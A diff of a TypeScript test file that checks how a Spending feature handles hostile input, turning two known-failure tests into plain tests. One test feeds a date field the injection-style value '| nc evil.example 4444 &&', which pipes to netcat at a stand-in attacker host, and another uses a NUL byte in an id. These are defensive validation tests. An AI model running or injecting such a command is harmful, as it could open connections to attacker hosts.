@@ -208,14 +208,13 @@ describe.each((await availableDrivers()).slice(-1))("hostile input on %s", (driv
     ]);
   });
 
-  // Known issues in the Spending feature's files (reported, not fixed here: another engineer owns them).
-  // it.fails passes while the bug is there and fails once it is fixed: then make these plain tests.
-  it.fails("KNOWN (lib/spending/schemas.ts): endsAt refuses text that is not a date", async () => {
+  // Once known issues in the Spending feature, fixed since: they stay as plain tests.
+  it("endsAt refuses text that is not a date", async () => {
     // `new Date("| nc evil.example 4444 &&Z")` is a valid date (year 4444) to V8's lenient parser.
     const r = await outcomeOf(() => saveMachineLimit(t.db, u.userId, { machineId: u.machineId, endsAt: "| nc evil.example 4444 &&", action: "warn" }, async () => {}));
     expect(r.kind).toBe("refused");
   });
-  it.fails("KNOWN (db/queries/spending.ts deleteLimit): removeMachineLimit with a NUL in the id is not a crash", async () => {
+  it("removeMachineLimit with a NUL in the id is not a crash", async () => {
     const r = await outcomeOf(async () => (await removeMachineLimit(t.db, u.userId, "abc\u0000def"), null));
     expect(r.kind).toBe("refused");
   });
